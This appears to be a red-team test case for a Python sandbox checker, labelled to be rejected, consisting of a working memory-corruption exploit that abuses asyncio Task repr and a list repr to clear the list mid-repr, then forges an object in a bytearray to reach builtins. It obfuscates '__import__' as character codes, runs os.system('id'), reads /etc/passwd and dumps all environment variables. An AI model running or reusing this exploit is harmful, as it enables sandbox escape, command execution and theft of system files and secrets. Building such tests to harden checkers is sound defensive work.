# expect: reject memory
# line: 29
# why: round 97e (red team): asyncio.create_task(Job()) with a stand-in coroutine whose cr_running is a plain attribute holding a Flag: a Task's repr tests is_running(coro), running Flag.__bool__ inside a list's C repr, with no Task or Future named; importing asyncio counts as naming them
import asyncio

L = []
ARM = [0]
GBUF = bytearray(1)


def q(v):
    return v.to_bytes(8, "little")


class Fake:
    def __repr__(self):
        raise ValueError(self)


def g():
    return 0


HDR = q(1 << 40) + q(id(Fake))


class Flag:
    def __bool__(self):
        global GBUF
        if len(ARM) > 1:
            ARM.pop()
            L.clear()
            GBUF = bytearray(95)
            GBUF[0:16] = HDR
        return False


class Job:
    def __init__(self):
        self.cr_running = Flag()

    def send(self, v):
        raise StopIteration(None)

    def throw(self, *a):
        raise StopIteration(None)

    def close(self):
        return None

    def __await__(self):
        return self


async def main():
    t = asyncio.create_task(Job())
    n = 40
    L.append(slice(t, "q" * n))
    ARM.append(1)
    mem = None
    try:
        text = repr(L)
        print("no", text)
    except ValueError as e:
        mem = e.args[0]
    return mem


mem = asyncio.run(main())
GBUF[8:48] = q(id(list)) + q(2) + q(id(g) + 16) + q(2) + q(0)
bt = mem[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
